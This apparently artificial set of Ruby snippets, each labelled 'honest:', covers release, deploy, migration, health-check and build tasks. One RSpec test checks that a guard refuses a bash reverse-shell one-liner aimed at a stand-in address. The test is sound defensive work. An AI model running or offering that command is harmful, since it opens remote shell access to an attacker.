# honest: tasks of a release
task :release do
  sh "bundle exec rspec"
  sh "gem build tool.gemspec"
  sh "git push --follow-tags"
end
# honest: a deploy by capistrano
set :application, "shop"
set :repo_url, "git@git.corp.example:team/shop.git"
set :keep_releases, 5
after "deploy:publishing", "deploy:restart"
# honest: a migration
class AddIndexToUsers < ActiveRecord::Migration[7.1]
  def change
    add_index :users, :email, unique: true
  end
end
# honest: a health check
require "net/http"
abort "down" unless Net::HTTP.get_response(URI("http://localhost:3000/up")).is_a?(Net::HTTPSuccess)
# honest: a spec about an attack
RSpec.describe Guard do
  it "refuses a reverse shell" do
    expect(described_class.new("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")).to be_refused
  end
end
# honest: folders of a build
require "fileutils"
FileUtils.rm_rf("pkg")
FileUtils.mkdir_p("pkg")
